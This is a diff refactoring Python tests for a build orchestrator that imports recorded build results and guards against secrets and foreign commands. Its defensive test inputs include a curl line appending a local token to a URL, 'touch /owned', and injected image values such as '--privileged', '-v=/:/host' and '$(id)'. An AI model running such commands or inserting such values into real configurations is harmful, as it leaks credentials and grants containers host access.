@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -34,7 +35,7 @@ from orchestrator.models.target import (
     VersionPart,
 )
 from orchestrator.report import from_results
-from orchestrator.report.schemas import Result
+from orchestrator.report.from_results import Recorded, RecordedRun
 from orchestrator.report.serialize import result
 from tests import factories, reports
 
@@ -124,13 +125,33 @@ def written(target: Target = BUILT, **changes: Any) -> dict[str, Any]:
     return result(replace(outcome, **changes), root=Path("/"))
 
 
-def read(folder: Path, *results: dict[str, Any]) -> dict[TargetId, Result]:
-    (folder / "results.json").write_text(json.dumps(reports.document(*results)))
-    return from_results.read(folder)
+@pytest.fixture
+def read(tmp_path: Path) -> Callable[..., Recorded]:
+    """Read results.json with these results."""
+
+    def read(*results: dict[str, Any]) -> Recorded:
+        (tmp_path / "r.json").write_text(json.dumps(reports.document(*results)))
+        return Recorded.read(tmp_path / "r.json")
+
+    return read
 
 
-def test_what_was_built_comes_back(tmp_path: Path) -> None:
-    found = from_results.as_recorded([PLANNED], read(tmp_path, written()), where="r.json")
+@pytest.fixture
+def take(read: Callable[..., Recorded]) -> Callable[..., RecordedRun]:
+    """Take what results.json has of a target that was built elsewhere into the plan of here."""
+
+    def take(theirs: Target = BUILT, mine: Target = PLANNED, **changes: Any) -> RecordedRun:
+        return read(written(theirs, **changes)).take([mine])
+
+    return take
+
+
+Take = Callable[..., RecordedRun]
+Read = Callable[..., Recorded]
+
+
+def test_what_was_built_comes_back(take: Take) -> None:
+    found = take()
 
     assert found.targets == (
         replace(
@@ -147,63 +168,54 @@ def test_what_was_built_comes_back(tmp_path: Path) -> None:
     assert f"{ID}: config settings: - -> " in " ".join(found.taken)
 
 
-def test_an_image_without_a_digest_is_taken_by_its_name(tmp_path: Path) -> None:
+def test_an_image_without_a_digest_is_taken_by_its_name(take: Take) -> None:
     local = replace(CONTAINER, digest="", image="localhost/base:1")
-    results = read(tmp_path, written(container=local))
 
-    assert from_results.as_recorded([PLANNED], results, where="").targets[0].image == local.image
-
-    results = read(tmp_path, written(container=None))
-    assert from_results.as_recorded([PLANNED], results, where="").targets[0].image == BUILT.image
+    assert take(container=local).targets[0].image == local.image
+    assert take(container=None).targets[0].image == BUILT.image
 
 
-def test_a_secret_in_a_command_leaves_that_command_as_planned(tmp_path: Path) -> None:
-    steps = replace(BUILT.steps, before_build="pip install --index-url https://a:pass@host/x y")
-    planned = replace(PLANNED, steps=TargetSteps(before_build="ours"))
-
-    found = from_results.as_recorded(
-        [planned], read(tmp_path, written(replace(BUILT, steps=steps))), where=""
-    )
-
-    assert found.targets[0].steps.before_build == "ours"
-    assert f"{ID}: before_build has a secret in it there, and is as planned here" in found.notes
+HIDDEN_INDEX = EnvironmentSpec(indexes=(("torch", "https://me:pass-word@host/x"),))
 
 
-def test_a_secret_in_an_index_is_not_written_and_leaves_the_environment_as_planned(
-    tmp_path: Path,
+@pytest.mark.parametrize(
+    ("name", "theirs"),
+    [
+        ("before_build", "pip install --index-url https://a:pass-word@host/x y"),
+        ("environment", HIDDEN_INDEX),
+    ],
+)
+def test_a_secret_is_not_written_and_leaves_what_has_it_as_planned(
+    take: Take, name: str, theirs: Any
 ) -> None:
-    indexes = (("torch", "https://me:pass-word@host/x"),)
-    steps = replace(BUILT.steps, environment=EnvironmentSpec(indexes=indexes))
-    file = written(replace(BUILT, steps=steps))
+    built = replace(BUILT, steps=replace(BUILT.steps, **{name: theirs}))
+    found = take(built)
 
-    found = from_results.as_recorded([PLANNED], read(tmp_path, file), where="")
-
-    assert "pass-word" not in repr(file)
-    assert found.targets[0].steps.environment == EnvironmentSpec()
-    assert f"{ID}: environment has a secret in it there, and is as planned here" in found.notes
+    assert "pass-word" not in repr(written(built))
+    assert getattr(found.targets[0].steps, name) == getattr(PLANNED.steps, name)
+    assert f"{ID}: {name} has a secret in it there, and is as planned here" in found.notes
 
 
-def test_a_secret_that_is_not_set_here_is_said(tmp_path: Path) -> None:
-    planned = replace(PLANNED, env=())
-
-    found = from_results.as_recorded([planned], read(tmp_path, written()), where="")
+def test_a_secret_that_is_not_set_here_is_said(take: Take) -> None:
+    found = take(mine=replace(PLANNED, env=()))
 
     assert [each.name for each in found.targets[0].env] == ["DEPTH"]
     assert f"{ID}: MY_TOKEN is secret there, and not set here" in found.notes
 
 
-def test_a_library_that_the_file_lacks_is_built_as_planned(tmp_path: Path) -> None:
+def test_a_library_that_the_file_lacks_is_built_as_planned(read: Read) -> None:
     library = replace(PLANNED, id=TargetId("core"), needs=())
+    recorded = read(written())
 
-    found = from_results.as_recorded([library, PLANNED], read(tmp_path, written()), where="r.json")
+    found = recorded.take([library, PLANNED])
 
     assert found.targets[0] == library
-    assert "core: not in r.json, built as planned here" in found.notes
+    assert f"core: not in {recorded.file}, built as planned here" in found.notes
 
 
-def test_the_backend_is_asked_for_where_the_file_says_which(tmp_path: Path) -> None:
+def test_the_backend_is_asked_for_where_the_file_says_which(read: Read) -> None:
     def of(**changes: Any) -> BackendName | None:
-        return from_results.backend_of(read(tmp_path, written() | changes)[ID])
+        return from_results.backend_of(read(written() | changes).results[ID])
 
     assert of() is BackendName.CIBUILDWHEEL
     assert of(backend="direct", container=None) is BackendName.DIRECT
@@ -211,11 +223,9 @@ def test_the_backend_is_asked_for_where_the_file_says_which(tmp_path: Path) -> N
     assert of(backend="direct", container=None, cached=True) is None, "nobody knows where"
 
 
-def test_an_id_that_stands_for_something_else_is_an_error(tmp_path: Path) -> None:
-    results = read(tmp_path, written(replace(BUILT, python="cp313")))
-
+def test_an_id_that_stands_for_something_else_is_an_error(take: Take) -> None:
     with pytest.raises(ConfigError, match="for another Python or platform"):
-        from_results.as_recorded([PLANNED], results, where="r.json")
+        take(replace(BUILT, python="cp313"))
 
 
 @pytest.mark.parametrize(
@@ -232,24 +242,24 @@ def test_a_file_of_something_else(tmp_path: Path, text: str, message: str) -> No
     file.write_text(text)
 
     with pytest.raises(ConfigError) as error:
-        from_results.request_of(from_results.read(file), ID, where="r.json")
+        Recorded.read(file).request(ID)
     assert message in str(error.value)
 
 
 def test_a_file_that_is_not_there(tmp_path: Path) -> None:
     with pytest.raises(ConfigError, match=r"results\.json: No such file"):
-        from_results.read(tmp_path)
+        Recorded.read(tmp_path)
 
 
-def test_a_target_that_never_had_a_request(tmp_path: Path) -> None:
+def test_a_target_that_never_had_a_request(read: Read) -> None:
     entry = reports.result(ID, "failed", failure=reports.failure(message="no such image"))
 
     with pytest.raises(ConfigError, match=r"was to be built \(failed: no such image\)"):
-        from_results.request_of(read(tmp_path, entry), ID, where="r.json")
+        read(entry).request(ID)
 
 
-def test_facts_that_differ_are_named(tmp_path: Path) -> None:
-    before = read(tmp_path, written())[ID]
+def test_facts_that_differ_are_named(read: Read) -> None:
+    before = read(written()).results[ID]
     now = written(
         replace(BUILT, env=(EnvVar(name="DEPTH", value="3", origin="env"), BUILT.env[1])),
         container=replace(CONTAINER, image_id="5678"),
@@ -263,11 +273,6 @@ def test_facts_that_differ_are_named(tmp_path: Path) -> None:
 
 
 # What only a container may run
-
-
-def foreign(folder: Path, theirs: Target, mine: Target = PLANNED) -> tuple[str, ...]:
-    found = from_results.as_recorded([mine], read(folder, written(theirs)), where="r.json")
-    return found.foreign.get(mine.id, ())
 
 
 def with_steps(**steps: Any) -> Target:
@@ -300,42 +305,37 @@ def with_env(*, evaluated: bool = False, **values: str) -> Target:
         ),
     ],
 )
-def test_what_the_plan_does_not_run_is_foreign(theirs: Target, what: str, tmp_path: Path) -> None:
-    (found,) = foreign(tmp_path, theirs)
+def test_what_the_plan_does_not_run_is_foreign(theirs: Target, what: str, take: Take) -> None:
+    (found,) = take(theirs).foreign[ID]
     assert found.startswith(what)
 
 
-def test_the_commands_of_a_library_are_foreign_too(tmp_path: Path) -> None:
+def test_the_commands_of_a_library_are_foreign_too(take: Take) -> None:
     library = LibraryStep(name="core", command="make", outputs=("*.so",))
     mine = replace(PLANNED, library=library)
-    assert foreign(tmp_path, mine, mine) == ()
+    assert take(mine, mine).foreign == {}
     theirs = replace(mine, library=replace(library, command="touch /owned"))
-    (found,) = foreign(tmp_path, theirs, mine)
+    (found,) = take(theirs, mine).foreign[ID]
     assert "touch /owned" in found
 
 
-def test_what_the_plan_runs_itself_is_not_foreign(tmp_path: Path) -> None:
+def test_what_the_plan_runs_itself_is_not_foreign(take: Take) -> None:
     mine = replace(with_env(PRETEND="2.0", V="$(nproc)", evaluated=True), steps=BUILT.steps)
-    assert foreign(tmp_path, mine, mine) == ()
+    assert take(mine, mine).foreign == {}
     # Another version of it, and less than the plan does.
     theirs = replace(mine, version="1.0+a", env=with_env(PRETEND="1.0+a").env, steps=TargetSteps())
-    assert foreign(tmp_path, theirs, mine) == ()
-    assert foreign(tmp_path, replace(theirs, env=with_env(PRETEND="1.0").env), mine) != ()
+    assert take(theirs, mine).foreign == {}
+    assert take(replace(theirs, env=with_env(PRETEND="1.0").env), mine).foreign
     literal = replace(mine, env=with_env(V="$(nproc)").env)
-    assert foreign(tmp_path, mine, literal) == ("env PRETEND=2.0", "env V=$(nproc)")
+    assert take(mine, literal).foreign[ID] == ("env PRETEND=2.0", "env V=$(nproc)")
 
 
-def test_secrets_of_here_and_commands_of_there_do_not_meet_unasked(tmp_path: Path) -> None:
+def test_secrets_of_here_and_commands_of_there_do_not_meet_unasked(take: Take) -> None:
     theirs = with_steps(before_build="curl https://host/?$MY_TOKEN")
-    results = read(tmp_path, written(theirs))
-    found = from_results.as_recorded([PLANNED], results, where="r.json")
-    (what,) = found.exposed[ID]
+    (what,) = take(theirs).exposed[ID]
     assert what == "before-build: curl https://host/?$MY_TOKEN, with MY_TOKEN of this machine"
-
-    without = replace(PLANNED, env=())
-    assert from_results.as_recorded([without], results, where="r.json").exposed == {}
-    mine = replace(PLANNED, steps=theirs.steps)
-    assert from_results.as_recorded([mine], results, where="r.json").exposed == {}
+    assert take(theirs, replace(PLANNED, env=())).exposed == {}
+    assert take(theirs, replace(PLANNED, steps=theirs.steps)).exposed == {}
 
 
 @pytest.mark.parametrize(
@@ -352,17 +352,17 @@ def test_secrets_of_here_and_commands_of_there_do_not_meet_unasked(tmp_path: Pat
         replace(BUILT, steps=TargetSteps(test_sources=("/etc",))),
     ],
 )
-def test_facts_that_no_plan_has_are_refused(theirs: Target, tmp_path: Path) -> None:
+def test_facts_that_no_plan_has_are_refused(theirs: Target, take: Take) -> None:
     with pytest.raises(ConfigError, match="cannot be"):
-        from_results.as_recorded([PLANNED], read(tmp_path, written(theirs)), where="r.json")
+        take(theirs)
 
 
 @pytest.mark.parametrize("image", ["--privileged", "-v=/:/host", "a b", "$(id)", "\n"])
-def test_an_image_is_no_option(image: str, tmp_path: Path) -> None:
-    for built in (
-        written(replace(BUILT, image=image), container=None),
-        written(container=replace(CONTAINER, digest=image)),
-        written(container=replace(CONTAINER, digest="", image=image)),
+def test_an_image_is_no_option(image: str, take: Take) -> None:
+    for theirs, container in (
+        (replace(BUILT, image=image), None),
+        (BUILT, replace(CONTAINER, digest=image)),
+        (BUILT, replace(CONTAINER, digest="", image=image)),
     ):
         with pytest.raises(ConfigError, match="image cannot be"):
-            from_results.as_recorded([PLANNED], read(tmp_path, built), where="r.json")
+            take(theirs, container=container)
